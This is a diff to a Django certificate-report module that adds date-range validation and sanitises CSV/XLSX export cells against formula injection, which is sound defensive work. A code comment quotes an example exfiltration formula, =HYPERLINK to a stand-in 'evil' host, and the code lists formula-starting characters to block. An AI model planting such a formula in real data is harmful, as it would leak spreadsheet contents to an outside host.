@@ -6,10 +6,12 @@ OFFSET, so page 1000 costs what page 1 costs; every filter and sort is backed by
 """
 
 import datetime
+import re
 from dataclasses import dataclass
 
 from django import forms
 from django.core import signing
+from django.core.validators import MaxValueValidator, MinValueValidator
 from django.db.models import Count, F, Q, QuerySet
 from django.utils import timezone
 from django.utils.translation import gettext
@@ -88,18 +90,36 @@ class Filters:
     sort: str = DEFAULT_SORT
 
 
+# The dates a filter may ask for. Outside them the day's local midnight (and the next day's)
+# does not exist as a datetime: 9999-12-31 + 1 day overflows, and 0001-01-01 in Kyiv is
+# before year 1 in UTC.
+EARLIEST_DATE = datetime.date(1900, 1, 1)
+LATEST_DATE = datetime.date(2999, 12, 31)
+
+
+def _date_field(label):
+    return forms.DateField(
+        label=label,
+        required=False,
+        validators=[MinValueValidator(EARLIEST_DATE), MaxValueValidator(LATEST_DATE)],
+        widget=forms.DateInput(
+            attrs={
+                "type": "date",
+                "min": EARLIEST_DATE.isoformat(),
+                "max": LATEST_DATE.isoformat(),
+            }
+        ),
+    )
+
+
 class ReportForm(forms.Form):
     """The filter bar. Invalid fields are reported and ignored; the valid ones still apply."""
 
     q = forms.CharField(label=_("Search"), required=False, max_length=200)
     course = forms.ChoiceField(label=_("Course"), required=False)
     certificate = forms.ChoiceField(label=_("Certificate"), required=False)
-    issued_from = forms.DateField(
-        label=_("Issued from"), required=False, widget=forms.DateInput(attrs={"type": "date"})
-    )
-    issued_to = forms.DateField(
-        label=_("Issued to"), required=False, widget=forms.DateInput(attrs={"type": "date"})
-    )
+    issued_from = _date_field(_("Issued from"))
+    issued_to = _date_field(_("Issued to"))
     method = forms.ChoiceField(
         label=_("Method"),
         required=False,
@@ -430,6 +450,24 @@ def export_headings() -> list[str]:
     ]
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula (tab and CR too, once
+# the CSV is pasted or re-imported): a participant named =HYPERLINK("http://evil/?"&A1) would
+# send the sheet's data away when staff open the export.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# Control characters XML 1.0 cannot hold: openpyxl refuses the whole file over one of them.
+_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+
+
+def spreadsheet_text(value):
+    """`value` safe for a CSV or XLSX cell: text that a spreadsheet would read as a formula
+    gets a leading apostrophe (OWASP's rule, what Excel shows for typed text), and characters
+    no XLSX file can hold are dropped. Numbers, dates and None pass unchanged."""
+    if not isinstance(value, str):
+        return value
+    value = _XML_ILLEGAL.sub("", value)
+    return "'" + value if value.startswith(FORMULA_STARTS) else value
+
+
 def _local(moment):
     # Spreadsheets have no time zones: write the school's local wall-clock time.
     return timezone.localtime(moment).replace(tzinfo=None, microsecond=0) if moment else None
@@ -439,7 +477,7 @@ def export_cells(row) -> list:
     """One EXPORT_FIELDS tuple as the cells of an export line, in export_headings() order."""
     (number, name, email, course, title, issued_at, method, by_name, by_email, forced,
      version, outdated, deleted_at, del_name, del_email) = row  # fmt: skip
-    return [
+    cells = [
         number,
         name,
         email,
@@ -454,6 +492,8 @@ def export_cells(row) -> list:
         _local(deleted_at),
         del_name or del_email or "",
     ]
+    # Names, emails, titles and numbers are typed by people the school does not control.
+    return [spreadsheet_text(cell) for cell in cells]
 
 
 def export_table(*, project, filters: Filters):
